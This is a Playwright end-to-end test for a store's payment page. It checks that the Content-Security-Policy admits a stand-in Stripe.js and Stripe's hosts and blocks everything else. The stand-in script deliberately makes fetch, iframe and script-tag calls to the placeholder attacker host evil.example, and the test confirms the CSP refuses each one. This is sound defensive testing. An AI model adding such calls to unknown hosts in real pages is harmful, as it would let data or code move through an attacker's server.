// Issue 14, Stripe mode in the browser: the payment page loads Stripe.js under the store's
// Content-Security-Policy. Stripe's hosts cannot be reached from this machine, so a local HTTPS
// stand-in answers for js.stripe.com, hooks.stripe.com and api.stripe.com (Chromium maps those
// names, and evil.example, to it). Its stripe.js frames and calls what Stripe documents
// (script-src js.stripe.com; frame-src js.stripe.com, hooks.stripe.com; connect-src api.stripe.com)
// and then tries evil.example the same three ways: the CSP must let the first through and block
// the rest before any request leaves the browser. Not checked here: the real Stripe.js, card entry
// in Stripe's iframe, 3-D Secure on hooks.stripe.com, Stripe's servers.
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { createServer, type Server } from 'node:https';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { chromium, expect, test } from '@playwright/test';
import { chromiumFlags, chromiumPath } from '#tests/fixtures/chromium.ts';
import { PASSWORD, uniqueEmail } from '#tests/fixtures/e2e-helpers.ts';
import { startStripeImitation } from '#tests/fixtures/stripe-imitation.ts';
import { startServer, type ServerProcess } from '#tests/system/server-process.ts';

// What the page loads as Stripe.js: @stripe/stripe-js injects https://js.stripe.com/<release>/stripe.js.
// It records that it ran, makes the calls Stripe.js makes and the ones the CSP must refuse, and
// answers with just enough of Stripe() for @stripe/react-stripe-js's Elements and CardElement.
const standInStripeJs = `
window.__standInRan = true;
const frame = (src) => { const f = document.createElement('iframe'); f.src = src; document.body.appendChild(f); };
frame('https://js.stripe.com/v3/elements-inner-card.html');
frame('https://hooks.stripe.com/3d_secure_2/hosted');
fetch('https://api.stripe.com/v1/stand-in').catch(() => {});
fetch('https://evil.example/connect').catch(() => {});
frame('https://evil.example/frame');
const s = document.createElement('script'); s.src = 'https://evil.example/script.js'; document.head.appendChild(s);
window.Stripe = function Stripe() {
  const made = {};
  return {
    elements() {
      return {
        create(type) {
          const element = { mount() {}, unmount() {}, destroy() {}, update() {}, on() { return element; }, off() { return element; }, once() { return element; } };
          made[type] = element;
          return element;
        },
        getElement(type) { return made[type] ?? null; },
        update() {},
      };
    },
    createToken: async () => ({ error: { message: 'stand-in' } }),
    createPaymentMethod: async () => ({ error: { message: 'stand-in' } }),
    confirmCardPayment: async () => ({ error: { message: 'stand-in' } }),
    _registerWrapper() {},
    registerAppInfo() {},
  };
};
window.Stripe.version = 'endive';
`;

let dir: string;
let standIn: Server;
let standInPort: number;
const reached: string[] = [];
let stripeApi: Awaited<ReturnType<typeof startStripeImitation>>;
let store: ServerProcess;

test.beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'torque-stripe-csp-'));
  // A throwaway self-signed certificate: Chromium is told to ignore certificate errors anyway.
  execFileSync('openssl', [
    'req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-days', '1', '-subj', '/CN=js.stripe.com',
    '-keyout', join(dir, 'key.pem'), '-out', join(dir, 'cert.pem'),
  ], { stdio: 'ignore' }); // prettier-ignore
  standIn = createServer(
    { key: readFileSync(join(dir, 'key.pem')), cert: readFileSync(join(dir, 'cert.pem')) },
    (req, res) => {
      reached.push(`https://${req.headers.host}${req.url}`);
      const script = req.headers.host === 'js.stripe.com' && /^\/[a-z0-9]+\/stripe\.js/.test(req.url ?? '');
      res.writeHead(200, {
        'content-type': script ? 'text/javascript' : 'text/html',
        'access-control-allow-origin': '*',
      });
      res.end(script ? standInStripeJs : '<!doctype html><title>stand-in</title>');
    },
  );
  await new Promise<void>((resolve) => standIn.listen(0, '127.0.0.1', resolve));
  standInPort = (standIn.address() as AddressInfo).port;
  stripeApi = await startStripeImitation();
  store = await startServer({
    DATA_DIR: join(dir, 'data'),
    STRIPE_SECRET_KEY: 'sk_test_torque_csp',
    STRIPE_PUBLISHABLE_KEY: 'pk_test_torque_csp',
    STRIPE_API_BASE: stripeApi.url,
  });
});

test.afterAll(async () => {
  await store?.kill();
  await stripeApi?.close();
  standIn?.close();
  if (dir) rmSync(dir, { recursive: true, force: true });
});

test('the payment page lets Stripe.js load, frame and call Stripe, and nothing else', async () => {
  test.setTimeout(60_000);
  const hosts = ['js.stripe.com', 'hooks.stripe.com', 'api.stripe.com', 'evil.example'];
  const browser = await chromium.launch({
    executablePath: chromiumPath,
    args: [
      ...chromiumFlags,
      `--host-resolver-rules=${hosts.map((host) => `MAP ${host} 127.0.0.1:${standInPort}`).join(',')}`,
      '--ignore-certificate-errors',
    ],
  });
  try {
    // The store's own origin: PUBLIC_URL is localhost, and better-auth checks the origin.
    const storeURL = store.url.replace('127.0.0.1', 'localhost');
    const page = await browser.newPage({ baseURL: storeURL });
    const seen: string[] = [];
    page.on('console', (message) => seen.push(`console: ${message.text()}`));
    page.on('pageerror', (error) => seen.push(`error: ${error.message}`));
    await page.addInitScript(() => {
      const seen: { blocked: string; directive: string }[] = [];
      (window as unknown as { __violations: typeof seen }).__violations = seen;
      document.addEventListener('securitypolicyviolation', (event) =>
        seen.push({ blocked: event.blockedURI, directive: event.effectiveDirective }),
      );
    });

    // A customer signs up, buys a tool and opens its payment page.
    const email = uniqueEmail('stripecsp');
    const signUp = await page.request.post('/api/auth/sign-up/email', {
      headers: { origin: storeURL },
      data: { name: 'Stripe Buyer', email, password: PASSWORD },
    });
    expect(signUp.ok(), await signUp.text()).toBe(true);
    const exchange = await page.request.put(`/api/user/${email}`, {
      headers: { origin: storeURL },
      data: { email },
    });
    const { token } = (await exchange.json()) as { token: string };
    const tools = (await (await page.request.get('/api/tools')).json()) as {
      _id: string;
      minimumOrder: number;
      availableQuantity: number;
    }[];
    const tool = tools.find((t) => t.availableQuantity >= t.minimumOrder)!;
    const purchase = await page.request.post('/api/purchase', {
      headers: { authorization: `Bearer ${token}` },
      data: {
        toolsId: tool._id,
        phone: '+1 555 010 2030',
        address: '12 Forge Lane',
        quantity: tool.minimumOrder,
      },
    });
    expect(purchase.ok(), await purchase.text()).toBe(true);
    const { insertedId: orderId } = (await purchase.json()) as { insertedId: string };
    await page.goto('/');
    await page.evaluate((value) => window.localStorage.setItem('accessToken', value), token);
    await page.goto(`/dashboard/payment/${orderId}`);

    // The stand-in Stripe.js ran, and what Stripe documents reached Stripe's hosts.
    // The payment code, then Stripe.js, load lazily after the page is taken over: on a loaded
    // machine (CI, with the other journeys' store running) that took longer than the default 5 s.
    await expect
      .poll(() => page.evaluate(() => (window as { __standInRan?: boolean }).__standInRan), {
        timeout: 30_000,
      })
      .toBe(true)
      .catch((error: Error) => {
        throw new Error(
          `${error.message}\nasked of the stand-in: ${reached.join(' ')}\npage: ${seen.join('\n')}`,
        );
      });
    await expect
      .poll(() => reached.filter((url) => !url.includes('evil.example')).map((url) => new URL(url).host))
      .toEqual(expect.arrayContaining(['js.stripe.com', 'hooks.stripe.com', 'api.stripe.com']));
    expect(reached).toContain('https://js.stripe.com/v3/elements-inner-card.html');
    expect(reached).toContain('https://hooks.stripe.com/3d_secure_2/hosted');
    expect(reached).toContain('https://api.stripe.com/v1/stand-in');

    // Everything aimed at evil.example was refused by the CSP, each in its own directive…
    const violations = () =>
      page.evaluate(
        () => (window as unknown as { __violations: { blocked: string; directive: string }[] }).__violations,
      );
    await expect
      .poll(async () =>
        (await violations())
          .filter((v) => v.blocked.includes('evil.example'))
          .map((v) => v.directive)
          .sort(),
      )
      .toEqual(['connect-src', 'frame-src', 'script-src-elem']);
    // …Stripe's own hosts never were, and no evil.example request left the browser.
    expect((await violations()).filter((v) => /stripe\.com/.test(v.blocked))).toEqual([]);
    expect(reached.filter((url) => url.includes('evil.example'))).toEqual([]);
  } finally {
    await browser.close();
  }
});
